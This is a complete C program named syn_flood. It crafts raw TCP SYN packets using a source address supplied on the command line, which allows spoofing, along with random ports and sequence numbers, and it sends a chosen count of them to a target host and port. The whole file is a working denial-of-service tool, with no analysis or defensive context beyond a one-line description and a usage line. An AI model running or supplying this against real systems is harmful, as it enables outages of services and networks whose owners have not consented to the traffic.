// SPDX-License-Identifier: Apache-2.0
// Sends so many first packets of TCP connections that nobody goes on with, from ports and with numbers by a seed.
//
//   syn_flood SOURCE DESTINATION PORT COUNT SEED
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

struct packet {
    struct iphdr ip;
    struct tcphdr tcp;
};

// The TCP header behind the addresses, as RFC 9293 has it.
static uint16_t checksum(const struct packet *packet) {
    struct {
        uint32_t source, destination;
        uint16_t protocol, length;
        struct tcphdr tcp;
    } summed = {packet->ip.saddr, packet->ip.daddr, htons(IPPROTO_TCP), htons(sizeof packet->tcp), packet->tcp};
    uint16_t words[sizeof summed / 2];
    memcpy(words, &summed, sizeof summed);
    uint32_t sum = 0;
    for (unsigned i = 0; i < sizeof summed / 2; i++) {
        sum += words[i];
    }
    sum = (sum >> 16) + (sum & 0xffff);
    return ~(sum + (sum >> 16));
}

int main(int count, char **arguments) {
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), sent = 0;
    if (count != 6 || fd < 0) {
        perror("syn_flood");
        return 1;
    }
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = inet_addr(arguments[2])};
    int port = atoi(arguments[3]), packets = atoi(arguments[4]);
    srandom(atoi(arguments[5]));
    for (int i = 0; i < packets; i++) {
        struct packet packet = {
            .ip = {.ihl = 5, .version = 4, .ttl = 64, .protocol = IPPROTO_TCP, .tot_len = htons(sizeof packet),
                   .saddr = inet_addr(arguments[1]), .daddr = to.sin_addr.s_addr},
            .tcp = {.source = htons(1024 + random() % 64000), .dest = htons(port), .seq = htonl(random()),
                    .doff = 5, .syn = 1, .window = htons(64240)}};
        packet.tcp.check = checksum(&packet);
        sent += sendto(fd, &packet, sizeof packet, 0, (struct sockaddr *) &to, sizeof to) == sizeof packet;
    }
    printf("%d\n", sent);
    return 0;
}
